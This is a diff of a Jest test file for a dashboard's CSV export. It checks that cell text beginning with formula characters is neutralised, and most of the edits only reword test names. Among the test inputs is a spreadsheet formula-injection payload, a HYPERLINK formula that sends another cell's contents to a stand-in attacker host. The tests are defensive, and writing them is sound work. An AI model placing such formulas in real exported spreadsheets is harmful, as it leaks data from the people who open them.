@@ -2,17 +2,16 @@ import { describe, expect, test } from '@jest/globals';
 import fc from 'fast-check';
 import { csvOf } from '../../dashboard/src/parts/csv-text.js';
 
-/** The one cell of a table of one, as it stands in the file. */
 const cellOf = (value: string | number | boolean | null | undefined): string =>
   csvOf([{ name: 'name', value: (text: typeof value) => text }], [value])
     .slice('name\r\n'.length)
     .replace(/\r\n$/, '');
 
-/** What a reader sees: quotes taken away. */
+/** Removes the quotes of a cell, as a CSV reader does. */
 const read = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
 const BEGINS_FORMULA = /^[\s"]*[=+\-@＝＋－＠]/;
 
-describe('a text in an exported table', () => {
+describe('text in exported tables', () => {
   test.each([
     '=1+1',
     '+1',
@@ -29,13 +28,13 @@ describe('a text in an exported table', () => {
     '－1',
     '＠A1',
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
-  ])('%j is no formula', (text) => {
+  ])('%j does not become a formula', (text) => {
     const cell = read(cellOf(text));
     expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
     expect(BEGINS_FORMULA.test(cell)).toBe(false);
   });
 
-  test('does not become a cell of its own for a reader that splits at semicolons, tabs or lines', () => {
+  test('text does not become a formula if a reader splits cells at semicolons, tabs or line ends', () => {
     fc.assert(
       fc.property(
         fc.string({ unit: fc.constantFrom('=', '-', ';', '\t', '\n', '\r', '"', ',', ' ', 'a', '＝') }),
@@ -46,7 +45,7 @@ describe('a text in an exported table', () => {
     );
   });
 
-  test('otherwise comes as it is, quoted where it has to be', () => {
+  test('other text is unchanged, and quoted if necessary', () => {
     for (const text of ['billing', 'a-b', 'gpt-4o', 'x=1', 'Ünïcödé', '']) expect(cellOf(text)).toBe(text);
     expect(cellOf('a,b')).toBe('"a,b"');
     expect(cellOf('a"b')).toBe('"a""b"');
@@ -54,6 +53,6 @@ describe('a text in an exported table', () => {
   });
 });
 
-test('numbers, negative ones too, stay numbers; nothing is an empty cell', () => {
+test('numbers are unchanged, even negative ones, and missing values are empty cells', () => {
   expect([cellOf(-5), cellOf(0), cellOf(false), cellOf(null), cellOf(undefined)]).toEqual(['-5', '0', 'false', '', '']);
 });
